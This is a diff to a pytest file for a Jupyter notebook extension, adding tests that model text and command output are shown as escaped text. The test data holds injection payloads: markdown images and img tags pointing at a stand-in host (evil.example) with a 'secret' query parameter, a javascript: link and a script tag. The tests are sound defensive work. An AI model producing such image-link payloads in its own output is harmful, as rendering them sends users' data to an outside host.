@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from typing import Any
 
 import pytest
+from markdown_it import MarkdownIt
 
 from terax_jupyter.notebook.policy import Verdict
-from terax_jupyter.notebook.results import RunFold
+from terax_jupyter.notebook.results import RunFold, code_span, escape_markdown, fenced
 from terax_jupyter.notebook.terminal import CommandFailed, CommandResult, kernel_folder
 from terax_jupyter.notebook.views import TextView
 
@@ -82,7 +84,7 @@ def test_the_fold_keeps_the_final_text_calls_approvals_and_usage() -> None:
     assert (result.usage.input_tokens, result.usage.output_tokens) == (30, 10)
     assert result.usage.cost == 0.5
     assert str(result) == "Done: edited a.py."
-    assert "changed `a.py`" in result._repr_markdown_()
+    assert "changed a\\.py" in result._repr_markdown_()
 
 
 def test_the_store_has_the_last_word_on_text_and_calls() -> None:
@@ -258,3 +260,51 @@ def test_the_terminal_view_says_what_is_missing(tmp_path: Any, monkeypatch: Any)
     assert script.startswith('const XTERM_SOURCE = "export { X as Terminal };";\n')
     assert "export default { render }" in script
     assert css.startswith(".xterm {}")
+
+
+# -- what a cell shows of the model's text and a command's output: nothing that loads ---------
+
+HOSTILE = (
+    "Done. ![chart](http://evil.example/x.png?d=secret)\n\n"
+    '<img src="http://evil.example/raw.png">\n\n'
+    "[![badge](http://evil.example/b.svg)](http://evil.example)\n\n"
+    "```\ninside a fence\n```\n"
+    "````\n<img src=http://evil.example/after-fence.png>\n~~~~\n"
+    '<a href="javascript:alert(1)">x</a> <script>alert(1)</script>\n'
+)
+
+
+def _html(markdown: str) -> str:
+    # CommonMark with raw HTML on, as a trusted notebook output is rendered.
+    return MarkdownIt("commonmark", {"html": True}).render(markdown)
+
+
+def test_a_result_shows_the_models_text_without_rendering_it() -> None:
+    result = replace(folded().result(), text=HOSTILE)
+    rendered = _html(result._repr_markdown_())
+    assert "<img" not in rendered
+    assert "<script" not in rendered
+    assert "<a " not in rendered
+    assert "evil.example/x.png?d=secret" in rendered  # shown, as text
+    # The facts line cannot be turned into markup by a file name or an error either.
+    hostile_path = replace(result, error={"message": "![x](http://evil.example/e.png) <img src=x>"})
+    assert "<img" not in _html(hostile_path._repr_markdown_())
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "`" * 7, "a\n```\n<img src=x>", ""])
+def test_fences_and_code_spans_hold_whatever_is_inside(text: str) -> None:
+    assert "<img" not in _html(fenced(text))
+    assert "<img" not in _html(code_span(text))
+    assert "<img" not in _html(escape_markdown(text))
+    assert "<a " not in _html(escape_markdown(text))
+
+
+def test_command_output_with_fences_stays_text() -> None:
+    answer = {
+        "block": {"id": 1, "command": "cat `x` README.md", "cwd": "/p", "exit_code": 0},
+        "text": "```\n~~~~\n<img src=http://evil.example/t.png>\n",
+        "truncated": False,
+    }
+    rendered = _html(CommandResult.from_json("t1", answer)._repr_markdown_())
+    assert "<img" not in rendered
+    assert "cat `x` README.md" in rendered
